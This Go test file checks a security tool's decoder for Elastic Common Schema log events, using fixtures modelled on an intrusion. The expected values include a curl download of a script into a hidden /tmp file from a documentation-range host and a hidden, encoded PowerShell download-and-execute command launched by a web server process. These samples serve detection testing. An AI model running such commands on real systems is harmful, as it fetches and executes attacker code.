package ecsjson

import (
	"bytes"
	"context"
	"errors"
	"os"
	"strings"
	"testing"

	"github.com/valyala/fastjson"

	"github.com/vigilsec/vigil/internal/decode"
	"github.com/vigilsec/vigil/internal/decode/decodetest"
	"github.com/vigilsec/vigil/internal/event"
)

func readFixture(t testing.TB) []byte {
	t.Helper()
	b, err := os.ReadFile("testdata/ecs.ndjson")
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestGolden(t *testing.T) {
	s, err := decodetest.DecodeFile(t, NewDecoder(), "testdata/ecs.ndjson")
	if err != nil {
		t.Fatal(err)
	}
	if len(s.Events) != 6 || len(s.Rejects) != 0 {
		t.Fatalf("got %d events, %d rejects; want 6, 0: %v", len(s.Events), len(s.Rejects), s.Rejects)
	}
	decodetest.Golden(t, "ecs", s.JSONL())
}

func values(e *event.Event, name string) string {
	var vs []string
	event.Lookup(name).Each(e, func(v string) bool { vs = append(vs, v); return true })
	return strings.Join(vs, ",")
}

func TestMappings(t *testing.T) {
	s, err := decodetest.DecodeFile(t, NewDecoder(), "testdata/ecs.ndjson")
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		idx    int
		fields map[string]string
	}{
		{0, map[string]string{ // auditbeat, nested
			"@timestamp": "2024-03-11T13:20:07.418Z", "event.category": "process", "event.type": "start",
			"event.action": "executed", "event.module": "auditd", "user.name": "deploy", "user.effective.name": "root",
			"process.pid": "48213", "process.parent.pid": "48190", "process.executable": "/usr/bin/curl",
			"process.working_directory": "/tmp", "process.args": "curl,-fsSL,http://198.51.100.7/x.sh,-o,/tmp/.x.sh",
			"host.name": "app-07", "host.ip": "10.20.1.17", "host.os.type": "linux", "related.user": "deploy,root",
			"related.ip": "10.20.1.17", "auditd.data.syscall": "execve", "file.path": "/usr/bin/curl",
		}},
		{1, map[string]string{ // elastic agent nginx
			"source.ip": "203.0.113.50", "source.address": "203.0.113.50", "url.original": "/wp-login.php?redirect_to=%2Fwp-admin%2F",
			"url.path": "/wp-login.php", "http.request.method": "POST", "http.response.status_code": "404",
			"http.response.body.bytes": "548", "http.version": "1.1", "event.category": "web", "event.type": "access",
			"user_agent.original": "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
			"host.name":           "web-02.corp.example.com", "host.hostname": "web-02", "event.timezone": "+00:00",
			"data_stream.dataset": "nginx.access", "event.dataset": "nginx.access", "related.hosts": "web-02.corp.example.com",
		}},
		{2, map[string]string{ // packetbeat flow
			"source.ip": "10.20.1.17", "source.port": "38292", "source.bytes": "31877", "source.packets": "412",
			"destination.ip": "198.51.100.7", "destination.port": "443", "destination.bytes": "4812255",
			"network.transport": "tcp", "network.community_id": "1:2cVv2Q7tmYB8hYr0Q8y7c9a6M2s=", "network.bytes": "4844132",
			"event.duration": "61756000000", "event.category": "network", "event.type": "connection,end",
			"source.mac": "00-50-56-9A-1B-2C", "related.ip": "10.20.1.17,198.51.100.7",
		}},
		{3, map[string]string{ // filebeat system auth
			"event.category": "authentication", "event.outcome": "failure", "user.name": "admin", "source.port": "52144",
			"process.name": "sshd", "message": "Failed password for invalid user admin from 203.0.113.50 port 52144 ssh2",
			"system.auth.ssh.method": "password",
		}},
		{4, map[string]string{ // dotted keys, category as a string, DOMAIN\user
			"event.category": "process", "event.type": "start", "host.name": "web-01.corp.example.com", "host.hostname": "web-01",
			"user.name": "svc-web", "user.domain": "corp", "related.user": "svc-web@corp", "process.pid": "6120",
			"process.command_line": "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
			"process.parent.name":  "w3wp.exe", "host.os.type": "windows", "file": `C:\ProgramData\sysmon-export\events.json`,
			"process.hash.sha256":       "de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c",
			"related.hash":              "de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c",
			"process.parent.executable": `c:\windows\system32\inetsrv\w3wp.exe`,
		}},
		{5, map[string]string{ // Elasticsearch hit
			"@timestamp": "2024-03-11T13:25:01.004Z", "event.category": "authentication,session", "user.name": "deploy",
			"source.ip": "10.20.9.4", "host.name": "bastion-1", "_index": "",
		}},
	}
	for _, tt := range tests {
		for name, want := range tt.fields {
			if got := values(s.Events[tt.idx], name); got != want {
				t.Errorf("event %d: %s = %q, want %q", tt.idx, name, got, want)
			}
		}
	}
}

// TestNestedAndDottedAgree checks that one document written nested and written with
// dotted keys decodes to the same event, typed core and raw fields alike.
func TestNestedAndDottedAgree(t *testing.T) {
	nested := `{"@timestamp":"2024-03-11T13:24:30Z","event":{"category":["process"],"type":["start"]},"process":{"pid":6120,"command_line":"whoami /all","parent":{"name":"cmd.exe"}},"source":{"ip":"10.1.2.3"},"user":{"name":"Alice"},"host":{"name":"H1"}}`
	dotted := `{"@timestamp":"2024-03-11T13:24:30Z","event.category":["process"],"event.type":["start"],"process.pid":6120,"process.command_line":"whoami /all","process.parent.name":"cmd.exe","source.ip":"10.1.2.3","user.name":"Alice","host.name":"H1"}`
	mixed := `{"@timestamp":"2024-03-11T13:24:30Z","event":{"category":["process"],"type":["start"]},"process":{"pid":6120,"command_line":"whoami /all","parent.name":"cmd.exe"},"source.ip":"10.1.2.3","user":{"name":"Alice"},"host.name":"H1"}`
	var out []string
	for _, doc := range []string{nested, dotted, mixed} {
		s, err := decodetest.Decode(t, NewDecoder(), "x", []byte(doc+"\n"))
		if err != nil || len(s.Events) != 1 {
			t.Fatalf("decoding %s: %v %v", doc, err, s.Rejects)
		}
		s.Events[0].Origin = event.Origin{}
		out = append(out, string(s.Events[0].AppendJSON(nil)))
	}
	if out[0] != out[1] || out[0] != out[2] {
		t.Fatalf("nested, dotted and mixed differ:\n%s\n%s\n%s", out[0], out[1], out[2])
	}
	for _, want := range []string{`"command_line":"whoami /all"`, `"raw":{`, `"process.command_line":"whoami /all"`, `"name":"alice"`} {
		if !strings.Contains(out[0], want) {
			t.Errorf("missing %s in %s", want, out[0])
		}
	}
}

func TestBadInput(t *testing.T) {
	good := `{"@timestamp":"2024-03-11T13:24:30Z","event":{"kind":"event"},"host":{"name":"h"}}`
	tests := []struct {
		name    string
		data    string
		reasons map[string]int
		events  int
	}{
		{"garbage", "garbage\n" + good + "\n", map[string]int{decode.ReasonMalformed: 1}, 1},
		{"truncated", good[:30] + "\n" + good + "\n", map[string]int{decode.ReasonMalformed: 1}, 1},
		{"no @timestamp", `{"event":{"kind":"event"}}` + "\n" + good + "\n", map[string]int{decode.ReasonBadTimestamp: 1}, 1},
		{"null @timestamp", `{"@timestamp":null}` + "\n" + good + "\n", map[string]int{decode.ReasonBadTimestamp: 1}, 1},
		{"bad @timestamp", `{"@timestamp":"now"}` + "\n" + good + "\n", map[string]int{decode.ReasonBadTimestamp: 1}, 1},
		{"epoch millis", `{"@timestamp":1710163470000}` + "\n", map[string]int{}, 1},
		{"bad typed values kept raw", `{"@timestamp":"2024-03-11T13:24:30Z","source":{"ip":"not-an-ip","port":"http"},"event":{"category":["nonsense"]}}` + "\n", map[string]int{}, 1},
		{"truncated array", "[" + good + ",\n" + good[:20], map[string]int{decode.ReasonTruncated: 1}, 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s, err := decodetest.Decode(t, NewDecoder(), "bad", []byte(tt.data))
			if err != nil {
				t.Fatal(err)
			}
			if len(s.Events) != tt.events {
				t.Errorf("got %d events, want %d", len(s.Events), tt.events)
			}
			got := s.Reasons()
			if len(got) != len(tt.reasons) {
				t.Fatalf("rejects %v, want %v", got, tt.reasons)
			}
			for r, n := range tt.reasons {
				if got[r] != n {
					t.Errorf("rejects %v, want %v", got, tt.reasons)
				}
			}
		})
	}
	s, _ := decodetest.Decode(t, NewDecoder(), "bad", []byte(tests[6].data))
	e := s.Events[0]
	if e.IP(event.SourceIP).IsValid() || e.Category != 0 || values(e, "source.port") != "" {
		t.Errorf("invalid typed values were set: %s", e.AppendJSON(nil))
	}
	if raw, _ := e.RawValue(event.MakeKey("source.ip")); raw != "not-an-ip" {
		t.Errorf("raw source.ip = %q", raw)
	}
}

func TestHugeLine(t *testing.T) {
	good := `{"@timestamp":"2024-03-11T13:24:30Z","event":{"kind":"event"}}`
	huge := `{"@timestamp":"2024-03-11T13:24:30Z","message":"` + strings.Repeat("A", 5000) + `"}`
	s := &decodetest.Sink{}
	err := NewDecoder().Decode(context.Background(), decode.Input{R: strings.NewReader(huge + "\n" + good + "\n"), Source: "huge",
		Limits: decode.Limits{MaxLine: 4096}}, s)
	if err != nil {
		t.Fatal(err)
	}
	if len(s.Events) != 1 || s.Reasons()[decode.ReasonLineTooLong] != 1 {
		t.Fatalf("got %d events, rejects %v", len(s.Events), s.Reasons())
	}
}

func TestCancel(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	err := NewDecoder().Decode(ctx, decode.Input{R: bytes.NewReader(readFixture(t)), Source: "x"}, &decodetest.Sink{})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
}

func TestSniff(t *testing.T) {
	lines := bytes.Split(readFixture(t), []byte("\n"))
	tests := []struct {
		name string
		head string
		want int
	}{
		{"auditbeat (ecs.version)", string(lines[0]), 60},
		{"dotted ecs.version", string(lines[4]), 60},
		{"es hit", string(lines[5]), 60},
		{"two field sets", `{"@timestamp":"2024-03-11T13:24:30Z","event":{"kind":"event"},"host":{"name":"h"}}`, 50},
		{"dotted field sets", `{"@timestamp":"2024-03-11T13:24:30Z","event.kind":"event","source.ip":"10.0.0.1"}`, 50},
		{"one field set", `{"@timestamp":"2024-03-11T13:24:30Z","event":{"kind":"event"},"message":"x"}`, 0},
		{"vector default (host is a string)", `{"@timestamp":"2024-03-11T13:24:30Z","host":"h","message":"x","source_type":"file"}`, 0},
		{"no timestamp", `{"event":{"kind":"event"},"host":{"name":"h"},"ecs":{"version":"8.0.0"}}`, 0},
		{"okta", `{"eventType":"user.session.start","published":"2024-03-11T13:02:45Z","actor":{}}`, 0},
		{"garbage", "\x00\x01", 0},
	}
	for _, tt := range tests {
		if got := Sniff([]byte(tt.head)); got != tt.want {
			t.Errorf("%s: Sniff = %d, want %d", tt.name, got, tt.want)
		}
	}
}

func FuzzDecode(f *testing.F) {
	for _, l := range bytes.Split(readFixture(f), []byte("\n")) {
		f.Add(l)
	}
	f.Add([]byte(`[{"@timestamp":1710163470,"event.category":["process",1,null],"related":{"ip":["x","::1%eth0"]},"user":{"name":"\\"},"host.name":"."}]`))
	f.Fuzz(func(t *testing.T, data []byte) {
		decodetest.Fuzz(t, NewDecoder(), data)
	})
}

func BenchmarkDecode(b *testing.B) {
	data := bytes.Repeat(readFixture(b), 1400) // ~8400 documents
	n := bytes.Count(data, []byte("\n"))
	decodetest.Bench(b, NewDecoder(), data, n)
}

// FuzzTextMatchesTree checks that the one-pass path gives the same event, or the same
// reject, as the parsed-tree path for any document.
func FuzzTextMatchesTree(f *testing.F) {
	for _, l := range bytes.Split(readFixture(f), []byte("\n")) {
		f.Add(l)
	}
	f.Add([]byte(`{"@timestamp":null,"a":1}`))
	f.Add([]byte(`{"@timestamp":["2024-03-11T13:02:45Z"]}`))
	f.Add([]byte(`{"_source":{"@timestamp":"2024-03-11T13:02:45Z","host":{"name":"H"}}}`))
	f.Fuzz(func(t *testing.T, doc []byte) {
		var p fastjson.Parser
		v, perr := p.ParseBytes(doc)
		d := NewDecoder()
		var e1, e2 event.Event
		reason1, err1 := d.fillText(&e1, doc)
		if errors.Is(err1, errTree) {
			if perr != nil {
				return // rejected as malformed on both paths
			}
			e1.Raw, e1.RawTruncated = e1.Raw[:0], false
			d.flat.Begin()
			reason1, err1 = d.fill(&e1, v)
		} else if perr != nil {
			t.Fatalf("text path accepted what the parser rejects: %v", perr)
		}
		var p2 fastjson.Parser
		v2, _ := p2.ParseBytes(doc)
		reason2, err2 := NewDecoder().fill(&e2, v2)
		if reason1 != reason2 || (err1 == nil) != (err2 == nil) || (err1 != nil && err1.Error() != err2.Error()) {
			t.Fatalf("reject differs: %q %v / %q %v", reason1, err1, reason2, err2)
		}
		if err1 == nil {
			if a, b := e1.AppendJSON(nil), e2.AppendJSON(nil); !bytes.Equal(a, b) {
				t.Fatalf("event differs:\n%s\n%s", a, b)
			}
		}
	})
}
